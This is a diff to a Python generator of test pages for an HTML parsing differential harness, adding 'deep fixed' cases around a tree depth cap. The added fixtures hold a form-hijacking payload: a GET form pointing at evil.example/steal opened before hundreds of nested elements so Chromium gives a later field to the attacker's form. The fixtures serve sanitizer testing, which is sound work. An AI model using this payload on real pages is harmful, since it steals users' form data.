@@ -16,7 +16,8 @@ oracle sees. The pages, in this order:
   contents in a table"), with form="" and formaction submitters, forms
   and a <base>, before and after </template>; then forms of this
   origin, the form="" buttons' target among them. TABLE_FIXED first:
-  the shapes Firefox pops the page's table with.
+  the shapes Firefox pops the page's table with; then DEEP_FIXED, the
+  depth cap's.
 - --pages N: inject_diff.py's pages for --seed (page_stream: its fixed
   pages, regressions, random pages and extra pages, with the same cuts),
   the pages inject_diff.py --seed S --pages N judges with html5lib;
@@ -68,6 +69,12 @@ TABLE_FIXED = [
     "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" + REAL,
     "<table><tr><td><template><div><table><tr><td>x</td></tr></table></div></template>" + REAL,
 ]
+# The tree depth cap (docs/architecture.md): a form opened about 512
+# elements deep gets its children beside it; Chromium gives the field to
+# the attacker's ancestor form (a GET one to evil.example here). Known
+# and open: dom_oracle.mjs counts them apart (fails on them with --deep).
+EVIL_OPEN = "<form method=get action=//evil.example/steal><div></form>"
+DEEP_FIXED = [EVIL_OPEN + "<i>" * 510 + REAL, EVIL_OPEN + "<a>" + "<div>" * 600 + REAL + "</a>"]
 TABLE_CONTEXTS = ["<table>", "<table><tr>", "<table><tr><td>", "<table><tr><th>", "<table><tbody>",
                   "<table><thead>", "<table><tfoot>", "<table><caption>", "<table><colgroup>",
                   "<table><tr><td><select>", "<table><tr><td><div>", "<div><table><tbody><tr><td>",
@@ -113,6 +120,8 @@ def stream(args):
     if args.tables:
         for k, page in enumerate(TABLE_FIXED):
             yield "table fixed %d" % k, page.encode("latin-1"), []
+        for k, page in enumerate(DEEP_FIXED):
+            yield "deep fixed %d" % k, page.encode("latin-1"), []
         for k in range(args.tables):
             page = table_page(trng).encode("latin-1")
             yield "table page %d" % k, page, inject_diff.page_cuts(page, trng)
